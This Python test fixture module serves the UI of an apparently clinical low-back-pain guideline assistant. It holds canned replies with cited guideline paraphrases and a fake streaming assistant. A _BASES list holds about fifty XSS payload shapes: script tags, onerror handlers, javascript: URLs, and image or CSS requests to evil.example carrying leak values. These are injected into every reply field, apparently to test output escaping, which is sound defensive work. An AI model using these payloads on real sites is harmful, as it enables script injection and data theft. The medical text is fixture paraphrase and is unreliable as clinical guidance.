"""Replies as the pipeline gives them, for tests of the UI, and a small assistant that streams them.

Passages are in Lumbar's own wording.
"""

# ruff: noqa: E501 - rows of prose read better on one line

from __future__ import annotations

import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

from assistant.types import (
    CaseFact,
    Citation,
    Claim,
    DroppedClaim,
    Finding,
    Receipt,
    Reply,
    Section,
    Source,
    Where,
)

CASE = (
    "54-year-old with 10 days of low back pain after lifting, tingling into the left buttock, no leg weakness, "
    "bladder and bowel normal. How should I manage this?"
)
CATEGORIES = ["cauda_equina", "neurologic_deficit", "malignancy", "infection", "fracture", "vascular", "inflammatory"]

# id, guideline, label, issuer, year, section, strength, certainty, status, verified, text
PASSAGES: list[tuple[str, str, str, str, int | None, str | None, str | None, str | None, str, str, str]] = [
    ("acp2017-4", "acp2017", "ACP 2017, Recommendation 1", "American College of Physicians", 2017, "Recommendation 1, text", None,
     None, "past its issuer's validity since 2022", "seen",
     "Tell patients that acute low back pain, with or without sciatica, generally has a good outlook, with substantial improvement "
     "likely in the first month. Advise activity as tolerated and self-care, and choose treatment together by preference, "
     "availability, harm and cost."),
    ("ng59-1.1.4", "ng59", "NICE NG59 1.1.4", "National Institute for Health and Care Excellence", 2016, "1.1.4", "do not offer",
     None, "current", "seen", "Imaging should not be offered routinely in a non-specialist setting for low back pain, with or without sciatica."),
    ("acp2007-2", "acp2007", "ACP/APS 2007, Recommendation 2", "American College of Physicians; American Pain Society", 2007,
     "Recommendation 2", "strong", "moderate-quality evidence", "current", "seen",
     "Imaging and other diagnostic tests should not be obtained routinely in nonspecific low back pain."),
    ("GL-008", "vadod2022", "VA/DoD 2022, Sidebar 1", "US Department of Veterans Affairs; Department of Defense", 2022, "Sidebar 1",
     None, None, "current", "seen",
     "Urinary retention, urinary or faecal incontinence, saddle anaesthesia, changed anal tone and severe or progressive leg deficit "
     "are flags that call for emergency MRI."),
    ("acp2017-1.a", "acp2017", "ACP 2017, Recommendation 1", "American College of Physicians", 2017, "Recommendation 1", "strong",
     "moderate-quality evidence for heat; low-quality evidence for massage", "past its issuer's validity since 2022", "seen",
     "Most acute and subacute low back pain improves over time whatever is done, so begin without drugs: superficial heat, massage, "
     "acupuncture or spinal manipulation."),
    ("acp2017-1.b", "acp2017", "ACP 2017, Recommendation 1", "American College of Physicians", 2017, "Recommendation 1", "strong",
     "moderate-quality evidence", "past its issuer's validity since 2022", "seen",
     "If a drug is wanted for acute or subacute low back pain, choose an NSAID or a skeletal muscle relaxant."),
    ("acp2017-10", "acp2017", "ACP 2017", "American College of Physicians", 2017, None, None, "moderate-quality evidence",
     "past its issuer's validity since 2022", "seen",
     "Skeletal muscle relaxants give small short-term pain relief in acute low back pain, with no evidence on function, and cause "
     "central nervous effects, mainly sedation. The choice between an NSAID and a relaxant should follow the patient's preference and risk."),
    ("ng59-1.1.2", "ng59", "NICE NG59 1.1.2", "National Institute for Health and Care Excellence", 2016, "1.1.2", "consider", None,
     "current", "seen", "A risk stratification tool such as STarT Back may be considered at first contact for each new episode, to inform shared decisions."),
    ("acp2017-12", "acp2017", "ACP 2017", "American College of Physicians", 2017, None, None, "low-quality evidence",
     "past its issuer's validity since 2022", "seen",
     "Systemic corticosteroids were not effective in acute or subacute low back pain, and the committee advises against them in acute low back pain."),
    ("vadod2022-15", "vadod2022", "VA/DoD 2022", "US Department of Veterans Affairs; Department of Defense", 2022, None, None, None,
     "current", "recalled", "Opioids are advised against for chronic low back pain."),
    ("acp2007-11", "acp2007", "ACP/APS 2007", "American College of Physicians; American Pain Society", 2007, None, None, None,
     "current", "recalled",
     "Re-evaluate patients whose symptoms have not improved after about 1 month. See earlier those with severe pain or functional "
     "loss, older patients, and those with signs of radiculopathy or spinal stenosis."),
    ("clinic-safety", "clinic2026", "Clinic leaflet 2026", "Example Clinic", 2026, "When to come back", None, None, "current", "seen",
     "Go to the emergency department at once, day or night, if you feel numb between the legs, cannot start or feel passing urine, "
     "lose control of the bowel, or weakness or pain spreads to both legs. Contact us by two weeks if you are no better."),
]  # fmt: skip

ANSWER: list[tuple[str, list[tuple[str, list[str]]]]] = [
    ("Bottom line", [
        ("Advise activity as tolerated and self-care.", ["acp2017-4"]),
        ("Imaging should not be offered routinely in a non-specialist setting for low back pain, with or without sciatica.", ["ng59-1.1.4", "acp2007-2"]),
    ]),
    ("Ask or examine now", [
        ("Ask about urinary retention, incontinence, saddle anaesthesia and progressive leg deficit: they call for emergency MRI.", ["GL-008"]),
        ("Changed anal tone and severe or progressive leg deficit are flags.", ["GL-008"]),
    ]),
    ("Do", [
        ("Begin without drugs: superficial heat, massage, acupuncture or spinal manipulation.", ["acp2017-1.a"]),
        ("If a drug is wanted for acute or subacute low back pain, choose an NSAID or a skeletal muscle relaxant.", ["acp2017-1.b"]),
        ("Skeletal muscle relaxants give small short-term pain relief in acute low back pain.", ["acp2017-10"]),
        ("A risk stratification tool such as STarT Back may be considered at first contact for each new episode.", ["ng59-1.1.2"]),
        ("Choose treatment together by preference, availability, harm and cost.", ["acp2017-4"]),
        ("The choice between an NSAID and a relaxant should follow the patient's preference and risk.", ["acp2017-10"]),
    ]),
    ("Avoid", [
        ("The committee advises against systemic corticosteroids in acute low back pain.", ["acp2017-12"]),
        ("Opioids are advised against for chronic low back pain.", ["vadod2022-15"]),
        ("Imaging and other diagnostic tests should not be obtained routinely.", ["acp2007-2"]),
    ]),
    ("Check before prescribing", [
        ("Muscle relaxants cause central nervous effects, mainly sedation.", ["acp2017-10"]),
    ]),
    ("Review and safety-net", [
        ("Go to the emergency department at once, day or night, if you feel numb between the legs, cannot start or feel passing urine, "
         "lose control of the bowel, or weakness or pain spreads to both legs.", ["clinic-safety"]),
        ("Contact us by two weeks if you are no better.", ["clinic-safety"]),
        ("Re-evaluate patients whose symptoms have not improved after about 1 month.", ["acp2007-11"]),
    ]),
    ("Refer if", [
        ("Urinary retention, saddle anaesthesia or changed anal tone: emergency MRI.", ["GL-008"]),
    ]),
    ("Where guidelines differ", [
        ("On opioids in chronic pain VA/DoD 2022 advises against them.", ["vadod2022-15"]),
        ("On first choice ACP 2017 begins without drugs.", ["acp2017-1.a"]),
    ]),
]  # fmt: skip

QUOTES = {
    "Advise activity as tolerated and self-care.": "Advise activity as tolerated and self-care",
    "Choose treatment together by preference, availability, harm and cost.": "choose treatment together by preference, availability, harm and cost",
    "Muscle relaxants cause central nervous effects, mainly sedation.": "cause central nervous effects, mainly sedation",
}  # fmt: skip


def receipt(**changes: Any) -> Receipt:
    values: dict[str, Any] = {
        "reply_id": "5f2b" * 16, "corpus": "c0" * 32, "rules": "a1" * 32, "prompts": "b2" * 32, "settings": "d3" * 32,
        "embedder": "all-MiniLM-L6-v2", "model": None, "today": "2026-11-24", "version": "0.1.0",
    }  # fmt: skip
    return Receipt(**{**values, **changes})


def source(n: int, passage_id: str) -> Source:
    row = next(p for p in PASSAGES if p[0] == passage_id)
    _, guideline, label, issuer, year, section, strength, certainty, status, verified, text = row
    own = guideline == "clinic2026"
    return Source(
        n=n, passage_id=passage_id, guideline=guideline, title="Low back pain and sciatica: assessment and management", issuer=issuer,
        year=year, edition=None, section=section, page=3 if own else None, strength=strength, certainty=certainty,
        population="adults with low back pain, with or without sciatica" if guideline == "ng59" else None, status=status,
        verified=verified, content="full_text" if own else "digest", url=None if own else f"https://example.org/{guideline}", text=text,
        label="Clinic leaflet 2026, When to come back" if own else f"Lumbar's summary of {label}",
    )  # fmt: skip


def cited(sections: list[tuple[str, list[tuple[str, list[str]]]]]) -> tuple[tuple[Section, ...], tuple[Source, ...]]:
    """Sections with marks numbered by first appearance, and exactly the cited sources in that order."""
    numbers: dict[str, int] = {}
    texts = {p[0]: p[-1] for p in PASSAGES}
    out = []
    for title, claims in sections:
        made = []
        for text, ids in claims:
            quote = QUOTES.get(text, text.rstrip("."))
            cites = []
            for pid in ids:
                n = numbers.setdefault(pid, len(numbers) + 1)
                cites.append(
                    Citation(
                        n=n,
                        passage_id=pid,
                        quote=quote if quote in texts[pid] else texts[pid].split(". ")[0].rstrip("."),
                    )
                )
            made.append(Claim(text=text, citations=tuple(cites)))
        out.append(Section(title=title, claims=tuple(made)))
    return tuple(out), tuple(source(n, pid) for pid, n in numbers.items())


def markdown(sections: tuple[Section, ...], opening: tuple[str, ...] = (), closing: tuple[str, ...] = ()) -> str:
    """As `assistant/markdown.py` writes it: an urgent block as lines, a bottom line as paragraphs, other claims as a list."""
    blocks = []
    for at, section in enumerate(sections):
        lines = [c.text + " " + "".join(f"[{x.n}]" for x in c.citations) for c in section.claims]
        if section.title == "Red flag":
            blocks.append("\n".join([f"## {section.title}", "", *lines]))
        elif section.title == "Bottom line":
            blocks.append("\n\n".join([f"## {section.title}", *lines]))
        else:
            blocks.append("\n".join([f"## {section.title}", "", *(f"- {line}" for line in lines)]))
        if at == 0:
            blocks += opening
    return "\n\n".join([*blocks, *closing])


def finding(rule: str = "RF01", **changes: Any) -> Finding:
    values: dict[str, Any] = {
        "rule": rule, "category": "cauda_equina", "kind": "red_flag", "stage": "question", "assertion": "present", "tier": "now",
        "severity": "emergency", "action": "Emergency department / your local emergency number now; emergency MRI of the lumbosacral spine.",
        "message": "Flag present: saddle numbness with trouble passing urine.", "source": "GL-008",
        "where": Where(field="messages", turn=0), "quote": "numb between the legs", "start": 14, "end": 35, "state": "present",
    }  # fmt: skip
    return Finding(**{**values, **changes})


def answered(question: str = CASE, **changes: Any) -> Reply:
    """A realistic management answer: 20 claims, 8 sections, 12 sources."""
    sections, sources = cited(ANSWER)
    findings = []
    findings.append(
        finding(
            "PF03",
            category="muscle_relaxant_duration",
            kind="pitfall",
            stage="plan",
            assertion=None,
            tier=None,
            severity="warning",
            action="State a stop date.",
            message="A muscle relaxant is in the answer: a short course only.",
            source="acp2017-10",
            where=Where(field="answer"),
            quote="muscle relaxant",
            start=3,
            end=18,
            state=None,
        )
    )
    values: dict[str, Any] = {
        "outcome": "answered", "question": question, "standalone_question": "How should 10 days of low back pain with left buttock tingling be managed in a 54-year-old?",
        "answer": markdown(sections, ("Assumes: age 54, 10 days, tingling into the left buttock, no leg weakness.",),
                           ("Not covered: the guidelines here did not yield a statement on work for this patient.",
                            "What would change this: any red flag or new leg weakness or numbness, symptoms past six weeks, age 65 or over.")),
        "sections": sections, "sources": sources, "findings": tuple(findings),
        "red_flags": {"present": [], "absent": ["neurologic_deficit"], "not_documented": [c for c in CATEGORIES if c != "neurologic_deficit"]},
        "case_facts": (
            CaseFact(key="age", value=54, quote="54-year-old", turn=0, start=0, end=11),
            CaseFact(key="duration_weeks", value=1.4, quote="10 days", turn=0, start=17, end=24),
        ),
        "imaging": {"verdict": "not_now_if", "modality": None, "region": None, "because": [], "if_absent": ["cauda_equina", "fracture"],
                    "reconsider": "after six weeks of care, only if surgery or injection is an option", "passage_ids": ["ng59-1.1.4"]},
        "conflicts": (
            {"id": "opioids", "topics": ["opioid"], "question": "Opioids in chronic low back pain?", "reading": "They differ.", "changed": None,
             "rows": [{"guideline_id": "vadod2022", "label": "VA/DoD 2022", "year": 2022, "stance": "Advises against opioids.", "strength": None,
                       "population": "chronic", "passage_ids": ["vadod2022-15"], "verified": "recalled"},
                      {"guideline_id": "acp2017", "label": "ACP 2017", "year": 2017, "stance": "Begins without drugs.", "strength": "strong",
                       "population": "acute", "passage_ids": ["acp2017-1.a"], "verified": "seen"}]},
        ),
        "dropped_claims": (DroppedClaim(text="Give opioids to all.", passage_ids=("ng59-1.1.4",), reasons=("polarity differs from the passage",)),),
        "suggested_questions": ("And if it becomes chronic?", "Which NSAID dose, and for how long?", "When should I order an MRI?"),
        "notices": ("Sources are Lumbar's summaries; open the original before relying on a detail.",),
        "receipt": receipt(),
    }  # fmt: skip
    return Reply(**{**values, **changes})


URGENT = [
    (
        "Red flag",
        [
            (
                "Now: emergency department / your local emergency number. Emergency MRI of the lumbosacral spine. Words: “numb between the legs”.",
                ["GL-008"],
            ),
            ("Do not wait for a trial of treatment, an X-ray or an outpatient MRI.", ["GL-008"]),
            ("Record onset, saddle sensation, power, residual volume and anticoagulant.", ["GL-008"]),
        ],
    )
]


def escalated(
    question: str = "54-year-old, numb between the legs and cannot pass urine since this morning",
    *,
    again: bool = False,
    **changes: Any,
) -> Reply:
    """A reply with an active flag of tier now; `again` for a later turn, where the block is one line and an answer follows."""
    urgent = [("Red flag", URGENT[0][1][:1])] if again else URGENT
    sections, sources = cited([*urgent, *(ANSWER[2:3] if again else [])])
    values: dict[str, Any] = {
        "outcome": "escalated", "question": question, "standalone_question": question,
        "answer": markdown(sections), "sections": sections, "sources": sources,
        "findings": (finding(quote="numb between the legs"), finding("RF01", concept="retention", quote="cannot pass urine")),
        "red_flags": {"present": ["cauda_equina"], "absent": [], "not_documented": CATEGORIES[1:]},
        "suggested_questions": () if not again else ("Which imaging, and of which region?",), "receipt": receipt(),
    }  # fmt: skip
    return Reply(**{**values, **changes})


def settled(question: str) -> Reply:
    """An answer after the flag was acted on: one line says so on top."""
    sections, sources = cited(
        [("Red flag", [("Acted on: registrar reviewed, MRI normal at 14:00.", ["GL-008"])]), *ANSWER]
    )
    return answered(
        question, sections=sections, sources=sources, answer=markdown(sections), findings=(finding(state="acted_on"),)
    )


def _plain(outcome: str, question: str, answer: str, **changes: Any) -> Reply:
    values: dict[str, Any] = {
        "outcome": outcome, "question": question, "standalone_question": question, "answer": answer,
        "red_flags": {"present": [], "absent": [], "not_documented": CATEGORIES}, "receipt": receipt(),
    }  # fmt: skip
    return Reply(**{**values, **changes})


def declined() -> Reply:
    return _plain("declined", "How do I treat a shoulder?", "Outside Lumbar's scope: it answers questions on low back pain and sciatica in adults "
                  "from the guidelines registered here. This question seems to be about the shoulder.")  # fmt: skip


def no_evidence() -> Reply:
    return _plain("no_evidence", "Does a copper bracelet help sciatica?", "The guidelines here do not say. No passage matches this question closely enough "
                  "to answer it.\nNearest subjects that they do cover: lumbar support, acupuncture.",
                  suggested_questions=("What do guidelines say about lumbar supports?",))  # fmt: skip


def unavailable() -> Reply:
    return _plain("unavailable", "What about exercise?", "Something broke, so no answer is given: the index is missing. This is not a statement that the "
                  "guidelines are silent.\nWhat to do: run `lumbar index build`.", notices=("Red flags were NOT checked.",))  # fmt: skip


_BASES = (
    "<script>{x}</script>", "<img src=x onerror={x}>", "<svg onload={x}>", "<svg><script>{x}</script></svg>", "<iframe srcdoc='<script>{x}</script>'></iframe>",
    "<iframe src=javascript:{x}></iframe>", "<a href=javascript:{x}>go</a>", "<a href=' java\tscript:{x}'>go</a>", "<body onload={x}>",
    "<details open ontoggle={x}>", "<video><source onerror={x}></video>", "<audio src=x onerror={x}>", "<input autofocus onfocus={x}>",
    "<textarea autofocus onfocus={x}></textarea>", "<select autofocus onfocus={x}></select>", "<marquee onstart={x}>", "<object data=javascript:{x}>",
    "<embed src=javascript:{x}>", "<form action=javascript:{x}><button>go</button></form>", "<button formaction=javascript:{x}>go</button>",
    "<math><mi xlink:href=javascript:{x}>m</mi></math>", "<style>@import 'https://evil.example/{y}';</style>", "<link rel=stylesheet href=https://evil.example/{y}>",
    "<base href=https://evil.example/>", "<meta http-equiv=refresh content='0;url=https://evil.example/{y}'>", "<img src=https://evil.example/?q={y}>",
    "![x](https://evil.example/?q={y})", "[go](javascript:{x})", "[go](https://evil.example/?q={y})", "![x][r]\n[r]: https://evil.example/{y}",
    "<div style='background:url(https://evil.example/{y})'>", "\"><script>{x}</script>", "'><img src=x onerror={x}>", "</textarea><script>{x}</script>",
    "</mark></p><script>{x}</script>", "</pre><img src=x onerror={x}>", "<!--><script>{x}</script>-->", "<![CDATA[<script>{x}</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror={x}>'>", "<template><script>{x}</script></template>", "$$\\href{{javascript:{x}}}{{go}}$$",
    "```html\n<script>{x}</script>\n```", "```mermaid\ngraph TD;A[<img src=x onerror={x}>]\n```", "<a href='data:text/html,<script>{x}</script>'>go</a>",
    "&lt;script&gt;{x}&lt;/script&gt;", "{{{{constructor.constructor('{x}')()}}}}", "${{{x}}}", "\n\n<script>{x}</script>\n\n", "| a |\n|---|\n| <img src=x onerror={x}> |",
    "[1]<img src=x onerror={x}>[999]", "**<b onmouseover={x}>bold</b>**",
)  # fmt: skip


def payloads() -> list[str]:
    """Hostile strings: 50 shapes, each as it is and with its tags in capitals."""
    made = []
    for at, base in enumerate(_BASES):
        plain = base.format(x=f"window.hit={at}", y=f"leak{at}")
        made += [
            plain,
            plain.replace("script", "ScRiPt")
            .replace("<img", "<IMG")
            .replace("onerror", "OnErRoR")
            .replace("<svg", "<SVG"),
        ]
    return made


def hostile(texts: list[str]) -> Reply:
    """A reply with each hostile text in every place that a text can reach."""
    everything = "\n".join(texts)
    cite = Citation(n=1, passage_id="p1", quote=everything)
    claims = tuple(Claim(text=t, citations=(cite,)) for t in texts)
    source_ = source(1, "ng59-1.1.4").model_copy(
        update={
            "passage_id": "p1", "text": f"before {everything} after", "title": everything, "issuer": everything, "label": everything, "edition": everything,
            "section": everything, "strength": everything, "certainty": everything, "population": everything, "status": everything, "verified": everything,
            "guideline": everything, "url": "javascript:window.hit=1",
        }
    )  # fmt: skip
    fired = finding(
        rule=everything, category=everything, action=everything, message=everything, source=everything, quote=everything
    )
    fact = CaseFact(key=everything, value=everything, quote=everything, turn=0, start=0, end=1)
    table = "| " + " | ".join(t.replace("\n", " ") for t in texts[:3]) + " |\n|---|---|---|\n| a | b | c |"
    return answered(
        everything, standalone_question=everything, answer="\n\n".join([f"## {texts[0]}", *(f"- {t} [1]" for t in texts), *texts, table]),
        sections=(Section(title=everything, claims=claims),), sources=(source_, source_.model_copy(update={"n": 2, "passage_id": "p2", "url": f"https://evil.example/{everything}"})),
        findings=(fired,), case_facts=(fact,), suggested_questions=tuple(texts), notices=tuple(texts), red_flags=dict.fromkeys(("present", "absent", "not_documented"), texts),
        conflicts=({"question": everything, "rows": [{"label": everything, "stance": everything, "strength": everything, "year": everything, "passage_ids": ["p1"]}]},),
        imaging={"verdict": everything, "modality": everything, "region": everything, "because": texts, "if_absent": texts, "reconsider": everything, "passage_ids": ["p1"]},
        dropped_claims=(DroppedClaim(text=everything, passage_ids=("p1",), reasons=tuple(texts)),), receipt=receipt(model=everything, version=everything, embedder=everything),
    )  # fmt: skip


@dataclass(frozen=True)
class Stage:
    name: str
    detail: str = ""


STAGES = (
    Stage("read", "1 message"), Stage("screen", "7 categories"), Stage("retrieve", "31 sources, 685 passages"), Stage("draft", "12 passages"),
    Stage("verify", "20 claims"), Stage("guard", "42 rules"), Stage("reply"),
)  # fmt: skip


@dataclass
class FakeAssistant:
    """Streams a fixture by the words of the conversation. `delay` is the pause before each stage, in seconds."""

    delay: float = 0.0
    asked: list[tuple[list[dict[str, str]], str]] = field(default_factory=list)
    closed: threading.Event = field(default_factory=threading.Event)

    def stream(self, messages: list[dict[str, str]], region: str | None = None) -> Iterator[Stage | Reply]:
        self.asked.append((messages, region or ""))
        last = messages[-1]["content"]
        try:
            for stage in STAGES:
                yield stage
                time.sleep(self.delay * (6 if "slow" in last else 1))
            if "explode" in last:
                raise RuntimeError("secret path and text of the patient")
            yield self.reply(messages)
        finally:
            self.closed.set()

    def reply(self, messages: list[dict[str, str]]) -> Reply:
        last = messages[-1]["content"]
        users = [m["content"] for m in messages if m["role"] == "user"]
        flagged = [i for i, text in enumerate(users) if "numb between the legs" in text]
        if flagged and any("MRI normal" in text for text in users):
            return settled(last)
        if flagged:
            return escalated(last, again=flagged[0] < len(users) - 1)
        if "hostile" in last:
            return hostile(payloads())
        if "shoulder" in last:
            return declined()
        if "bracelet" in last:
            return no_evidence()
        if "broken" in last:
            return unavailable()
        return answered(last)
